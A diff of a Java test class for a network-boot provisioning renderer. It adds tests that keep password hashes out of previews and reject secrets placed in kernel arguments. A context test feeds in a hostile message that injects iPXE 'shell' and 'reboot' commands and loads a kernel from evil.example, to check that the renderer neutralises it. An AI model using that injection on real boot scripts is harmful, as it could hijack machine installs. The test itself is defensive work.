@@ -1,7 +1,9 @@
 package org.bootwarden.boot;
 
 import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
 import static org.bootwarden.boot.RenderFixtures.SECOND_SERVER;
+import static org.bootwarden.boot.RenderFixtures.SECRETS;
 import static org.bootwarden.boot.RenderFixtures.SERVER;
 import static org.bootwarden.boot.RenderFixtures.TOKEN;
 import static org.bootwarden.boot.RenderFixtures.db02OnVlan;
@@ -18,9 +20,11 @@ import java.util.stream.Stream;
 
 import org.bootwarden.hosts.Host;
 import org.bootwarden.profiles.Profile;
+import org.bootwarden.profiles.ProfileKind;
 import org.bootwarden.profiles.ProfileService;
 import org.bootwarden.profiles.SeededProfiles;
 import org.bootwarden.support.Golden;
+import org.bootwarden.templates.TemplateEngine;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
@@ -82,6 +86,29 @@ class BootRendererTest {
     }
 
     @Test
+    void shouldRenderSecretsIntoAnswerFilesOnlyAndPlaceholdersWhereNoValueMayShow() {
+        String served = renderer.answerFile(web01(), seeded("debian-12"), urls(web01()), SECRETS);
+        String preview = renderer.answerFile(web01(), seeded("debian-12"), urls(web01()));
+        Profile unset = SeededProfiles.load("rocky-9", Map.of());
+
+        assertThat(served).contains("d-i passwd/user-password-crypted password " + RenderFixtures.PASSWORD_HASH + "\n");
+        assertThat(preview).contains("d-i passwd/user-password-crypted password (secret adminPasswordHash)\n")
+                .doesNotContain(RenderFixtures.PASSWORD_HASH);
+        assertThat(preview.replace("(secret adminPasswordHash)", RenderFixtures.PASSWORD_HASH)).isEqualTo(served);
+        assertThat(renderer.answerFile(db02OnVlan(), unset, urls(db02OnVlan()))).contains("rootpw --iscrypted (secret rootPasswordHash: not set)");
+        Profile inKernelArgs = RenderFixtures.profile(ProfileKind.DEBIAN_PRESEED, "pw={{secrets.adminPasswordHash}}", null, "", Map.of());
+        assertThatThrownBy(() -> renderer.installScript(web01(), inKernelArgs, urls(web01()), 1))
+                .isInstanceOf(TemplateEngine.RenderException.class).hasMessageStartingWith("profile hostile kernelArgs: ");
+    }
+
+    @Test
+    void shouldRenderTheRateLimitedAnswerAsALocalBoot() {
+        String script = renderer.localScript(BootScriptFilter.RATE_LIMITED_HOST, BootScriptFilter.RATE_LIMITED);
+
+        Golden.assertMatches("local/rate-limited.ipxe", script);
+    }
+
+    @Test
     void shouldNeutraliseHostileMessageInLocalScript() {
         String hostile = "disk gone || shell ${net0/ip} #comment; reboot\nkernel http://evil.example/x & naïve ✓ \"q\" 'q' `q` \\";
 
@@ -111,11 +138,14 @@ class BootRendererTest {
     }
 
     @Test
-    void shouldShipSeededProfilesWhoseOnlyUnsetVariablesArePasswords() {
-        assertThat(SeededProfiles.unsetVariables("debian-12")).containsExactly("adminPasswordHash");
-        assertThat(SeededProfiles.unsetVariables("ubuntu-24.04")).containsExactly("adminPasswordHash");
-        assertThat(SeededProfiles.unsetVariables("rocky-9")).containsExactly("rootPasswordHash");
+    void shouldShipSeededProfilesWhosePasswordsAreSecretsWithoutAValue() {
+        assertThat(SeededProfiles.unsetVariables("debian-12")).isEmpty();
+        assertThat(SeededProfiles.unsetSecrets("debian-12")).containsExactly("adminPasswordHash");
+        assertThat(SeededProfiles.unsetSecrets("ubuntu-24.04")).containsExactly("adminPasswordHash");
+        assertThat(SeededProfiles.unsetSecrets("rocky-9")).containsExactly("rootPasswordHash");
         assertThat(SeededProfiles.unsetVariables("custom-ipxe")).containsExactly("isoFile");
+        assertThat(SeededProfiles.unsetSecrets("custom-ipxe")).isEmpty();
+        SeededProfiles.NAMES.forEach(n -> assertThat(ProfileService.unsetSecrets(seeded(n))).as(n).isEmpty());
         SeededProfiles.NAMES.forEach(n -> assertThat(ProfileService.unsetVariables(seeded(n))).as(n).isEmpty());
     }
 
@@ -144,7 +174,7 @@ class BootRendererTest {
 
     @Test
     void shouldRenderDebianPreseed() {
-        String preseed = renderer.answerFile(web01(), seeded("debian-12"), urls(web01()));
+        String preseed = renderer.answerFile(web01(), seeded("debian-12"), urls(web01()), SECRETS);
 
         Golden.assertMatches("answers/debian-12.preseed", preseed);
         assertThat(preseed).doesNotContain("{{").doesNotContain("netcfg/use_vlan")
@@ -155,7 +185,7 @@ class BootRendererTest {
     void shouldRenderDebianPreseedWithVlan() {
         Host host = withVlan(web01(), 42);
 
-        String preseed = renderer.answerFile(host, seeded("debian-12"), urls(host));
+        String preseed = renderer.answerFile(host, seeded("debian-12"), urls(host), SECRETS);
 
         Golden.assertMatches("answers/debian-12-vlan.preseed", preseed);
         assertThat(preseed).contains("d-i netcfg/use_vlan boolean true\nd-i netcfg/vlan_id string 42\n");
@@ -163,7 +193,7 @@ class BootRendererTest {
 
     @Test
     void shouldRenderRockyKickstart() {
-        String ks = renderer.answerFile(db02OnVlan(), seeded("rocky-9"), urls(db02OnVlan()));
+        String ks = renderer.answerFile(db02OnVlan(), seeded("rocky-9"), urls(db02OnVlan()), SECRETS);
 
         Golden.assertMatches("answers/rocky-9.ks", ks);
         assertThat(ks).contains("--device=52:54:00:aa:bb:01").contains("--nameserver=192.168.42.53,192.168.42.54")
@@ -174,7 +204,7 @@ class BootRendererTest {
     void shouldRenderUbuntuUserDataThatParsesAsYaml() {
         Host host = web01();
 
-        String userData = renderer.answerFile(host, seeded("ubuntu-24.04"), urls(host));
+        String userData = renderer.answerFile(host, seeded("ubuntu-24.04"), urls(host), SECRETS);
 
         Golden.assertMatches("answers/ubuntu-24.04.user-data", userData);
         assertThat(userData).startsWith("#cloud-config\n");
@@ -192,7 +222,7 @@ class BootRendererTest {
     void shouldRenderUbuntuUserDataWithVlanThatParsesAsYaml() {
         Host host = db02OnVlan();
 
-        String userData = renderer.answerFile(host, seeded("ubuntu-24.04"), urls(host));
+        String userData = renderer.answerFile(host, seeded("ubuntu-24.04"), urls(host), SECRETS);
 
         Golden.assertMatches("answers/ubuntu-24.04-vlan.user-data", userData);
         Map<String, Object> auto = autoinstall(userData);
